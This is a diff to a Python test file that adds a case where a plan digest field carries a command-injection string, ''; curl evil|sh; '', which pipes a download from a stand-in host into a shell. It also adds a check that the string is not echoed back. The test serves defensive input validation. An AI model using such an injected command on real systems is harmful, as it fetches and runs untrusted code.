@@ -83,16 +83,18 @@ def test_the_command_is_whole_however_much_the_worker_says() -> None:
     ("of", "message", "words"),
     [
         (running(), held_result(planDigest=""), "70 %"),
+        (running(), held_result(planDigest=f"{DIGEST}'; curl evil|sh; '"), "70 %"),
         (running(), held_result(planStored=""), "could not be stored"),
         (run().running(ago(minutes=1)).status(mode="DryRun"), held_result(planStored=""), "would be held"),
         (running(), "no result at all", "A brake tripped"),
     ],
-    ids=["without a digest", "not stored", "dry", "numbers lost"],
+    ids=["without a digest", "no digest", "not stored", "dry", "numbers lost"],
 )
 def test_what_cannot_be_approved_on_this_run_fails_at_once(of: RunBuilder, message: str, words: str) -> None:
     decision = ending(of, message)
     assert (decision.state, decision.reason) == (RunState.FAILED, "Held")
     assert words in decision.message
+    assert "evil" not in decision.message
 
 
 def manifest_in(message: str) -> Any:
